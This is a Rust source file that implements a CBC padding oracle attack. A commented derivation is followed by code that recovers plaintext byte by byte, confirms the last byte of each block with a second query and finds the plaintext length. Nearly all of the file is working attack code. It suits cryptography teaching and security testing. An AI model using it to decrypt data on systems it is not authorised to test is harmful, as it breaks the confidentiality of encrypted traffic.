// CBC padding oracle attack.
//
// The formula for CBC decryption is
//
//                 P_i = D(C_i) ⊕ C_{i-1}.
//
// If we take a block C_i and prepend a block X that we control, the
// decryption of the two-block ciphertext X|C_i is
//
//                     P' = D(C_i) ⊕ X,
//
// so the real plaintext is P_i = P' ⊕ X ⊕ C_{i-1}. We never learn D(C_i)
// directly, but the oracle tells us when P' ends in valid padding.
//
// To find the last byte we vary X[15] until the oracle accepts X|C_i. The
// padding must then (usually, see below) be '\x01', so
//
//                     P_i[15] = \x01 ⊕ X[15] ⊕ C_{i-1}[15].
//
// We then adjust X[15] so that P'[15] becomes '\x02' and brute force X[14]
// until P' ends in '\x02\x02', and so on down to the first byte.
//
// The last byte is ambiguous. If P' already ends in '\x02' at position 14,
// then a value of X[15] producing P'[15] = '\x02' is also accepted. When the
// `LastByte` verification is enabled an accepted last byte is checked by
// complementing X[14] and querying again: genuine '\x01' padding survives
// that, longer padding does not.
//
// Below X is called the 'forced IV'.
use tracing::{debug, trace};

use crate::blocks::{self, is_attackable_len};
use crate::oracle::{Oracle, OracleFault};
use crate::pkcs7::pkcs7_unpad_in_place;
use crate::{Error, Result};

pub const DEFAULT_BLOCK_SIZE: usize = 16;

/// How an accepted candidate for the last byte of a block is treated.
#[derive(Clone, Copy, Debug, Default, PartialEq, Eq)]
pub enum Verification {
    /// Confirm the last byte of each block with a second query.
    #[default]
    LastByte,
    /// The first candidate the oracle accepts wins, even if it produced a
    /// longer padding pattern by accident.
    FirstSuccess,
}

pub struct PaddingOracleAttack<O> {
    pub(crate) oracle: O,
    pub(crate) block_size: usize,
    pub(crate) verification: Verification,
}

impl<O> PaddingOracleAttack<O> {
    pub fn new(oracle: O) -> Self {
        Self {
            oracle,
            block_size: DEFAULT_BLOCK_SIZE,
            verification: Verification::default(),
        }
    }

    pub fn with_block_size(mut self, block_size: usize) -> Result<Self> {
        if !(1..=255).contains(&block_size) {
            return Err(Error::InvalidBlockSize(block_size));
        }
        self.block_size = block_size;
        Ok(self)
    }

    pub fn with_verification(mut self, verification: Verification) -> Self {
        self.verification = verification;
        self
    }

    pub fn block_size(&self) -> usize {
        self.block_size
    }

    pub fn verification(&self) -> Verification {
        self.verification
    }

    pub fn into_oracle(self) -> O {
        self.oracle
    }

    pub(crate) fn check_ciphertext_len(&self, len: usize) -> Result<()> {
        if !is_attackable_len(len, self.block_size) {
            return Err(Error::InvalidLength {
                len,
                block_size: self.block_size,
            });
        }
        Ok(())
    }

    pub(crate) fn check_block_len(&self, iv: &[u8], block: &[u8]) -> Result<()> {
        for len in [iv.len(), block.len()] {
            if len != self.block_size {
                return Err(Error::InvalidLength {
                    len,
                    block_size: self.block_size,
                });
            }
        }
        Ok(())
    }
}

impl<O: Oracle> PaddingOracleAttack<O> {
    /// Decrypt `ciphertext`, whose first block is the IV, and strip its
    /// padding.
    pub fn decrypt(&mut self, ciphertext: &[u8]) -> Result<Vec<u8>> {
        self.check_ciphertext_len(ciphertext.len())?;
        let ciphertext_blocks = blocks::split(ciphertext, self.block_size);
        let mut plaintext = Vec::with_capacity(ciphertext.len() - self.block_size);
        for (idx, pair) in ciphertext_blocks.windows(2).enumerate() {
            let block_idx = idx + 1;
            debug!(block = block_idx, "attacking block");
            let mut plaintext_block = self
                .decrypt_block(pair[0], pair[1])
                .map_err(|e| e.in_block(block_idx))?;
            plaintext.append(&mut plaintext_block);
        }
        pkcs7_unpad_in_place(&mut plaintext)?;
        Ok(plaintext)
    }

    /// Recover the plaintext of `block`, where `iv` is the ciphertext block
    /// before it.
    pub fn decrypt_block(&mut self, iv: &[u8], block: &[u8]) -> Result<Vec<u8>> {
        self.check_block_len(iv, block)?;
        let verification = self.verification;
        let oracle = &mut self.oracle;
        recover_block(iv, block, |state, position| {
            (0..=255u8)
                .find_map(|candidate| {
                    let mut query = |c: &[u8]| oracle.query(c);
                    state
                        .check(position, candidate, verification, &mut query)
                        .map(|accepted| accepted.then_some(candidate))
                        .transpose()
                })
                .transpose()
        })
    }

    /// Find the length of the plaintext of `ciphertext`.
    ///
    /// Each byte of the second to last block is complemented in turn. Bytes
    /// that line up with plaintext in the final block leave the padding
    /// intact; the first byte that lines up with padding breaks it.
    pub fn size(&mut self, ciphertext: &[u8]) -> Result<usize> {
        self.check_ciphertext_len(ciphertext.len())?;
        if !self.oracle.query(ciphertext)? {
            return Err(Error::InvalidCiphertext);
        }

        let start = ciphertext.len() - 2 * self.block_size;
        for idx in start..(start + self.block_size) {
            let mut flipped = ciphertext.to_vec();
            flipped[idx] ^= 0xFF;
            if !self.oracle.query(&flipped)? {
                debug!(size = idx, "found plaintext size");
                return Ok(idx);
            }
        }
        Err(Error::SizeNotFound)
    }
}

/// Run the byte-by-byte attack on one block. `search` returns the accepted
/// candidate for a position, if any.
pub(crate) fn recover_block<S>(iv: &[u8], block: &[u8], mut search: S) -> Result<Vec<u8>>
where
    S: FnMut(&BlockState, usize) -> Result<Option<u8>>,
{
    let mut state = BlockState::new(iv, block);
    for position in (0..block.len()).rev() {
        let candidate = search(&state, position)?.ok_or(Error::ByteNotFound {
            block: None,
            position,
        })?;
        state.accept(position, candidate);
    }
    Ok(state.plaintext)
}

/// The working state of an attack on one block.
pub(crate) struct BlockState<'a> {
    iv: &'a [u8],
    block: &'a [u8],
    forced_iv: Vec<u8>,
    plaintext: Vec<u8>,
    padding_value: usize,
}

impl<'a> BlockState<'a> {
    fn new(iv: &'a [u8], block: &'a [u8]) -> Self {
        Self {
            iv,
            block,
            forced_iv: iv.to_vec(),
            plaintext: vec![0u8; block.len()],
            padding_value: 1,
        }
    }

    fn probe(&self, position: usize, candidate: u8) -> Vec<u8> {
        let mut query = Vec::with_capacity(self.forced_iv.len() + self.block.len());
        query.extend_from_slice(&self.forced_iv);
        query[position] = candidate;
        query.extend_from_slice(self.block);
        query
    }

    /// Ask the oracle whether `candidate` produces the padding we are after
    /// at `position`.
    pub(crate) fn check<Q>(
        &self,
        position: usize,
        candidate: u8,
        verification: Verification,
        query: &mut Q,
    ) -> Result<bool>
    where
        Q: FnMut(&[u8]) -> std::result::Result<bool, OracleFault>,
    {
        let mut probe = self.probe(position, candidate);
        if !query(&probe)? {
            return Ok(false);
        }
        let is_last_byte = position + 1 == self.block.len();
        if verification == Verification::LastByte && is_last_byte && position > 0 {
            probe[position - 1] ^= 0xFF;
            if !query(&probe)? {
                trace!(candidate, "rejected candidate with longer padding");
                return Ok(false);
            }
        }
        Ok(true)
    }

    fn accept(&mut self, position: usize, candidate: u8) {
        let byte = candidate ^ self.iv[position] ^ self.padding_value as u8;
        trace!(position, candidate, byte, "recovered byte");
        self.plaintext[position] = byte;
        self.forced_iv[position] = candidate;

        // Re-tune the solved bytes from the current padding value to the next.
        self.padding_value += 1;
        let delta = (self.padding_value ^ (self.padding_value - 1)) as u8;
        for x in position..self.forced_iv.len() {
            self.forced_iv[x] ^= delta;
        }
    }
}
